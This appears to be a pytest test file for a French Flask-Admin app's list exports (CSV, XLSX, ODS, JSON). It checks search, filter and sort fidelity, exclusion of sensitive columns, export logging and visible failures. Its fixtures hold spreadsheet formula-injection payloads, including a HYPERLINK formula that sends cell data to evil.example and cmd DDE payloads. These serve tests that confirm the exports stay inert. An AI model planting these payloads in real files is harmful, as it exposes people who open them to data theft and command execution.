"""List exports: every format read back by a real reader, formulas inert, failures visible."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from decimal import Decimal
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa
from flask_admin.contrib.sqla.filters import FilterEqual

from app.admin import model_views
from app.exports import writers
from app.exports.columns import ExportPlan
from app.models import (
    Attendance,
    AttendanceStatus,
    DataTransfer,
    Member,
    Membership,
    Organisation,
    OrganisationKind,
    Plan,
    PlanAction,
    TransferOutcome,
)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")'


def _view(app, endpoint):
    for view in model_views(app.extensions["admin"][0]):
        if view.endpoint == endpoint:
            return view
    raise LookupError(endpoint)


def fetch(client, url: str):
    """GET an export, read its body and close it (temp files get released)."""
    response = client.get(url)
    response.get_data()
    response.close()
    return response


def read_rows(fmt: str, data: bytes) -> list[list[str]]:
    """Parse an export with a real reader; every cell as the text a person sees."""
    if fmt == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8"))))
    if fmt == "csv-excel":
        assert data.startswith(b"\xef\xbb\xbf")
        text = data.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text), delimiter=";"))
    if fmt == "json":
        objs = json.loads(data)
        if not objs:
            return []
        header = list(objs[0])
        return [header] + [[_text(o[h]) for h in header] for o in objs]
    if fmt == "xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(io.BytesIO(data)).active
        return [[_text(c) for c in row] for row in ws.iter_rows(values_only=True)]
    if fmt == "ods":
        return read_ods(data)
    raise ValueError(fmt)


def _text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Oui" if value else "Non"
    if hasattr(value, "date") and hasattr(value, "hour"):
        return value.isoformat()
    return str(value)


def read_ods(data: bytes) -> list[list[str]]:
    from odf import opendocument, table, teletype

    doc = opendocument.load(io.BytesIO(data))
    rows = []
    for tr in doc.spreadsheet.getElementsByType(table.TableRow):
        cells = []
        for tc in tr.getElementsByType(table.TableCell):
            kind = tc.getAttribute("valuetype")
            if kind in ("float", "currency"):
                cells.append(tc.getAttribute("value"))
            elif kind == "date":
                cells.append(tc.getAttribute("datevalue"))
            else:
                paras = tc.getElementsByType(__import__("odf.text").text.P)
                cells.append("\n".join(teletype.extractText(p) for p in paras))
        rows.append(cells)
    return rows


@pytest.fixture
def people(db):
    org = Organisation(name="Association Numérique", kind=OrganisationKind.association)
    other = Organisation(name=EVIL, kind=OrganisationKind.company)
    db.session.add_all([org, other])
    members = [
        Member(first_name="Élodie", last_name="Abgrall", organisation=org),
        Member(first_name="Yann", last_name="Le Goff", organisation=org),
        Member(first_name="Anne", last_name="Le Gall", organisation=other),
        Member(first_name="@malin", last_name="-1+1", email="x@ex.fr"),
    ]
    db.session.add_all(members)
    db.session.commit()
    return members


FORMATS = ["csv", "csv-excel", "xlsx", "ods", "json"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_follows_search_and_sort_of_the_screen(admin_client, people, fmt):
    # Search "Le G" matches two members; sort by last name descending.
    screen = admin_client.get("/admin/member/?search=Le+G&sort=0&desc=1")
    assert screen.status_code == 200
    html = screen.get_data(as_text=True)
    assert "Le Goff" in html and "Le Gall" in html and "Abgrall" not in html

    response = fetch(
        admin_client, f"/admin/member/export/{fmt}/?search=Le+G&sort=0&desc=1"
    )
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    rows = read_rows(fmt, response.data)
    header = rows[0]
    assert header[:3] == ["N°", "Nom", "Prénom"]
    assert "Version" not in header
    body = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert [(r["Nom"], r["Prénom"]) for r in body] == [
        ("Le Goff", "Yann"),
        ("Le Gall", "Anne"),
    ]
    # Related records appear by their label, enums by their French label.
    assert body[0]["Structure"] == "Association Numérique"
    assert body[0]["Rôle au conseil"] == "Membre"
    if fmt in ("csv", "csv-excel"):
        assert body[1]["Structure"] == "'" + EVIL
    else:
        # JSON is data; XLSX and ODS type the cell as text (no visible apostrophe).
        assert body[1]["Structure"] == EVIL


def test_export_follows_filters(app, admin_client, people):
    view = _view(app, "organisation")
    index, flt = next(
        (i, f)
        for i, f in enumerate(view._filters)
        if isinstance(f, FilterEqual) and getattr(f.column, "key", "") == "kind"
    )
    arg = f"flt0_{view.get_filter_arg(index, flt)}"
    response = fetch(admin_client, f"/admin/organisation/export/csv/?{arg}=company")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert [r[1] for r in rows[1:]] == ["'" + EVIL]
    screen = admin_client.get(f"/admin/organisation/?{arg}=company")
    assert "Association Numérique" not in screen.get_data(as_text=True)


@pytest.mark.parametrize("fmt", ["csv", "csv-excel", "xlsx", "ods"])
def test_formula_cells_are_inert_and_numbers_stay_numbers(admin_client, db, fmt):
    plan = Plan(name="Schéma", short_name="STN")
    db.session.add_all(
        [
            PlanAction(plan=plan, number=1, title=EVIL, budget=Decimal("150000")),
            PlanAction(plan=plan, number=2, title="+33 dangereux", axis="\tcaché"),
            PlanAction(plan=plan, number=3, title="@SUM(1)", axis="\rretour"),
        ]
    )
    db.session.commit()
    response = fetch(admin_client, f"/admin/plan_action/export/{fmt}/?sort=1")
    assert response.status_code == 200
    if fmt == "xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(io.BytesIO(response.data)).active
        cells = list(ws.iter_rows(min_row=2))
        title, budget, number = cells[0][3], cells[0][5], cells[0][2]
        # A string cell with the quote-prefix style: shown as typed, never run,
        # and no apostrophe added to its text.
        assert title.data_type == "s" and title.value == EVIL
        assert title.quotePrefix
        assert cells[1][3].value == "+33 dangereux" and cells[1][3].quotePrefix
        assert cells[2][3].value == "@SUM(1)" and cells[2][3].quotePrefix
        assert not cells[0][1].quotePrefix  # plain text keeps the plain style
        assert budget.data_type == "n" and budget.value == 150000
        assert budget.number_format == '#,##0.00\\ "€"'
        assert number.data_type == "n" and number.value == 1
        assert all(c.data_type != "f" for row in cells for c in row)
        return
    rows = read_rows(fmt, response.data)
    body = rows[1:]
    if fmt == "ods":
        # An ODS text cell is never a formula: the text is kept as typed.
        assert body[0][3] == EVIL
        assert body[1][3] == "+33 dangereux"
        assert body[2][3] == "@SUM(1)"
        content = _content(response.data)
        assert b'office:value-type="string"><text:p>=HYPERLINK' in content
        assert (
            b'table:style-name="ce_euro" office:value-type="currency" '
            b'office:currency="EUR" office:value="150000.00"' in content
        )
        assert body[0][5] == "150000.00"
        assert body[0][2] == "1"
        return
    assert body[0][3] == "'" + EVIL
    assert body[1][3] == "'+33 dangereux"
    assert body[1][4] == "'\tcaché"
    assert body[2][3] == "'@SUM(1)"
    # The number column keeps plain numbers, never prefixed.
    expected_budget = {"csv": "150000.00", "csv-excel": "150000,00"}
    assert body[0][5] == expected_budget[fmt]
    assert body[0][2] == "1"


def _content(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.namelist()[0] == "mimetype"
        return zf.read("content.xml")


def test_dates_are_iso_8601(admin_client, demo):
    rows = read_rows("csv", fetch(admin_client, "/admin/meeting/export/csv/").data)
    starts = [r[1] for r in rows[1:]]
    assert "2019-06-11T12:30:00+02:00" in starts
    _membership_since(demo, date(2019, 1, 1))
    rows = read_rows("xlsx", fetch(admin_client, "/admin/membership/export/xlsx/").data)
    assert rows[1][4] == "2019-01-01T00:00:00"  # a real date cell


def test_attendance_export_has_member_and_meeting_labels(admin_client, demo):
    rows = read_rows("ods", fetch(admin_client, "/admin/attendance/export/ods/").data)
    assert rows[0] == ["N°", "Réunion", "Membre", "Présence", "Invité·e"]
    assert [
        "Innovation sociale numérique — 16/04/2019",
        "Eric Soudy",
        "Présent·e",
        "Non",
    ] in [row[1:] for row in rows]
    assert len(rows) == 1 + 9


def test_sensitive_columns_never_exported():
    plan = ExportPlan(
        Member,
        [("version", "Version"), ("last_name", "Nom"), ("password_hash", "Mot")],
    )
    assert plan.headers == ["N°", "Nom"]


def test_export_is_recorded(db, admin_client, people):
    fetch(admin_client, "/admin/member/export/json/?search=Le+G")
    entry = db.session.execute(sa.select(DataTransfer)).scalar_one()
    assert entry.target == "member"
    assert entry.file_format == "json"
    assert entry.row_count == 2
    assert entry.outcome == TransferOutcome.success
    assert "search=Le+G" in entry.details


@pytest.fixture
def attendance_rows(db, make_member):
    from datetime import UTC, datetime

    from app.models import Meeting

    meeting = Meeting(starts_at=datetime(2024, 5, 2, 8, 0, tzinfo=UTC))
    db.session.add(meeting)
    # Default sort is id descending: three "present" rows, then two "absent".
    statuses = [AttendanceStatus.absent] * 2 + [AttendanceStatus.present] * 3
    for i, status in enumerate(statuses):
        member = make_member(last_name=f"M{i}")
        db.session.add(Attendance(meeting=meeting, member=member, status=status))
    db.session.commit()


@pytest.fixture
def failing_status(app, monkeypatch):
    """Make the "absent" status raise while its row is converted."""
    from app.exports import columns

    original = columns._enum_converter

    def converter(enum_cls):
        get = original(enum_cls)
        if enum_cls is not AttendanceStatus:
            return get

        def convert(code):
            if code == "absent":
                raise RuntimeError("boom")
            return get(code)

        return convert

    monkeypatch.setattr(columns, "_enum_converter", converter)
    monkeypatch.setitem(app.config, "EXPORT_STREAM_BATCH", 2)


@pytest.mark.parametrize("fmt", ["csv", "csv-excel", "json"])
def test_stream_failing_midway_ends_with_error_marker(
    db, admin_client, attendance_rows, failing_status, fmt
):
    # Batches of two: the first is fine, the second holds an "absent" row.
    response = fetch(admin_client, f"/admin/attendance/export/{fmt}/")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.rstrip().endswith(("###", '###"}'))
    assert writers.ERROR_MARKER in text
    if fmt == "json":
        with pytest.raises(json.JSONDecodeError):
            json.loads(text)
    entry = db.session.execute(sa.select(DataTransfer)).scalar_one()
    assert entry.outcome == TransferOutcome.failure


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_file_export_failing_sends_no_file(
    db, admin_client, attendance_rows, failing_status, fmt
):
    response = fetch(admin_client, f"/admin/attendance/export/{fmt}/")
    assert response.status_code == 302
    assert "Content-Disposition" not in response.headers
    page = admin_client.get(response.headers["Location"])
    assert "L&#39;export n&#39;a pas pu être produit" in page.get_data(as_text=True)


def test_failure_in_first_batch_fails_before_first_byte(
    db, admin_client, attendance_rows, failing_status
):
    # Sorted by status code ascending: the "absent" rows come first.
    response = fetch(admin_client, "/admin/attendance/export/csv/?sort=2")
    assert response.status_code == 302
    assert response.data.find(b"Membre") == -1


def test_unknown_format_is_refused(admin_client, db):
    response = fetch(admin_client, "/admin/member/export/xml/")
    assert response.status_code == 302


def test_export_menu_offers_every_format_in_french(admin_client, db):
    html = admin_client.get("/admin/member/").get_data(as_text=True)
    for label in ("CSV pour Excel", "XLSX (Excel)", "ODS (LibreOffice)", "JSON"):
        assert label in html
    assert "/admin/member/export/csv-excel/" in html


def test_date_cells_in_xlsx_are_dates(admin_client, db, make_member):
    make_member(last_name="Daté", left_on=date(2024, 1, 31), joined_on=date(2020, 1, 1))
    from openpyxl import load_workbook

    # Members who left are archived: shown (and exported) with ?archives=1.
    data = fetch(admin_client, "/admin/member/export/xlsx/?archives=1").data
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("Parti·e le") + 1)
    assert cell.is_date and cell.value.date() == date(2024, 1, 31)


def test_sqlite_export_in_progress_does_not_block_writers(
    app, db, admin_client, make_member, monkeypatch
):
    import sqlite3

    if db.engine.dialect.name != "sqlite":
        pytest.skip("SQLite locking only")
    for i in range(6):
        make_member(last_name=f"Membre{i}")
    monkeypatch.setitem(app.config, "EXPORT_STREAM_BATCH", 2)
    response = admin_client.get("/admin/member/export/csv/", buffered=False)
    chunks = iter(response.response)
    first = next(chunks)
    assert b"Membre0" in first and b"Membre5" not in first
    # While the download is paused mid-way, another writer gets the lock at once.
    writer = sqlite3.connect(db.engine.url.database, timeout=0.2, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("UPDATE member SET town = 'Lorient' WHERE last_name = 'Membre5'")
    writer.execute("COMMIT")
    writer.close()
    rest = b"".join(chunks)
    response.close()
    assert b"Membre5" in rest


def _endpoints():
    from tests.test_smoke import ENDPOINTS

    return ENDPOINTS


@pytest.mark.parametrize("endpoint", _endpoints())
def test_every_list_exports_all_its_rows_in_every_format(
    app, admin_client, full_data, endpoint
):
    view = _view(app, endpoint)
    if not type(view).can_export:
        response = fetch(admin_client, f"/admin/{endpoint}/export/csv/")
        assert response.status_code in (302, 403, 404)
        return
    total = full_data.session.execute(
        sa.select(sa.func.count()).select_from(view.model)
    ).scalar()
    for fmt in FORMATS:
        response = fetch(admin_client, f"/admin/{endpoint}/export/{fmt}/")
        assert response.status_code == 200, (endpoint, fmt)
        rows = read_rows(fmt, response.data)
        if fmt == "json":
            assert len(json.loads(response.data)) == total
            continue
        assert len(rows) == 1 + total, (endpoint, fmt)
        assert "Version" not in rows[0]


def test_datetime_and_enum_filters_apply_to_export(app, admin_client, demo):
    from flask_admin.contrib.sqla.filters import DateTimeGreaterFilter

    view = _view(app, "meeting")
    index, flt = next(
        (i, f)
        for i, f in enumerate(view._filters)
        if isinstance(f, DateTimeGreaterFilter)
        and getattr(f.column, "key", "") == "starts_at"
    )
    arg = f"flt0_{view.get_filter_arg(index, flt)}"
    url = f"/admin/meeting/export/csv/?{arg}=2019-06-11+12:00:00"
    rows = read_rows("csv", fetch(admin_client, url).data)
    # 12:30 Paris is after 12:00 Paris (but 10:30 UTC is not after 12:00 UTC).
    assert [r[1] for r in rows[1:]] == ["2019-06-11T12:30:00+02:00"]
    screen = admin_client.get(f"/admin/meeting/?{arg}=2019-06-11+12:00:00")
    assert "16/04/2019" not in screen.get_data(as_text=True)


def test_journal_page_lists_transfers(db, admin_client, people):
    fetch(admin_client, "/admin/member/export/csv-excel/")
    html = admin_client.get("/admin/journal/").get_data(as_text=True)
    assert "Journal des échanges de données" in html
    assert "<td>member</td>" in html and "<td>csv-excel</td>" in html
    assert "<td>Export</td>" in html and "<td>Réussi</td>" in html


#: Every first character a spreadsheet evaluates, each in a real attack's form.
FORMULAS = [
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def formula_measurements(db):
    """One indicator named by each formula, one measurement each (negative
    value, the formula again as comment): text in a plain column and in a link."""
    from app.models import Indicator, Measurement

    values = {}
    for i, text in enumerate(FORMULAS):
        value = Decimal(f"-{i + 1}.5")
        indicator = Indicator(name=text, unit="%", baseline=value)
        db.session.add(
            Measurement(
                indicator=indicator,
                measured_on=date(2024, 1, i + 1),
                value=value,
                comment=text,
            )
        )
        values[value] = text
    db.session.commit()
    return values


def _same_text(shown: str, original: str) -> bool:
    """The cell shows the original text, with or without a leading apostrophe
    (XML turns a CR into LF)."""
    shown, original = shown.replace("\r", "\n"), original.replace("\r", "\n")
    return shown in (original, "'" + original)


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_every_formula_trigger_is_inert_in_csv(admin_client, formula_measurements, fmt):
    response = fetch(admin_client, f"/admin/measurement/export/{fmt}/")
    assert response.status_code == 200
    header, *body = read_rows(fmt, response.data)
    assert len(body) == len(FORMULAS)
    col = {name: header.index(name) for name in ("Indicateur", "Valeur", "Commentaire")}
    for row in body:
        shown = row[col["Valeur"]]
        # Numbers, negative ones included, stay numbers: never prefixed.
        value = Decimal(shown.replace(",", "."))
        assert shown == (str(value) if fmt == "csv" else str(value).replace(".", ","))
        original = formula_measurements[value]
        for name in ("Indicateur", "Commentaire"):
            cell = row[col[name]]
            # A CSV cell has no type: only its first character decides.
            assert cell == "'" + original, (name, original)
            assert not cell.startswith(TRIGGERS)


def test_every_formula_trigger_is_inert_in_xlsx(admin_client, formula_measurements):
    from openpyxl import load_workbook  # heavy: loaded by the tests that use it

    response = fetch(admin_client, "/admin/measurement/export/xlsx/")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data)).active
    header = [c.value for c in ws[1]]
    col = {name: header.index(name) for name in ("Indicateur", "Valeur", "Commentaire")}
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(FORMULAS)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    for row in rows:
        number = row[col["Valeur"]]
        assert number.data_type == "n" and number.value < 0
        original = formula_measurements[Decimal(str(number.value))]
        for name in ("Indicateur", "Commentaire"):
            cell = row[col[name]]
            # A text cell, which stays text when edited (apostrophe or quote prefix).
            assert cell.data_type == "s", (name, original)
            assert _same_text(cell.value, original), (name, cell.value)
            assert cell.value.startswith("'") or cell.quotePrefix, (name, original)


def test_every_formula_trigger_is_inert_in_ods(admin_client, formula_measurements):
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    response = fetch(admin_client, "/admin/measurement/export/ods/")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as zf:
        root = ElementTree.fromstring(zf.read("content.xml"))
    header, *body = [
        row.findall(f"{{{table}}}table-cell")
        for row in root.iter(f"{{{table}}}table-row")
    ]
    names = ["".join(c.itertext()) for c in header]
    col = {name: names.index(name) for name in ("Indicateur", "Valeur", "Commentaire")}
    assert len(body) == len(FORMULAS)
    for row in body:
        assert all(c.get(f"{{{table}}}formula") is None for c in row)
        number = row[col["Valeur"]]
        assert number.get(f"{{{office}}}value-type") == "float"
        value = Decimal(number.get(f"{{{office}}}value"))
        assert value < 0
        original = formula_measurements[value]
        for name in ("Indicateur", "Commentaire"):
            cell = row[col[name]]
            assert cell.get(f"{{{office}}}value-type") == "string", (name, original)
            shown = "\n".join(
                "".join(p.itertext()) for p in cell.findall(f"{{{text}}}p")
            )
            assert _same_text(shown, original), (name, shown)


def _membership_since(db, day) -> None:
    """The minutes give no membership date: one is set here for the date cells."""
    for membership in db.session.execute(sa.select(Membership)).scalars():
        membership.since = day
    db.session.commit()
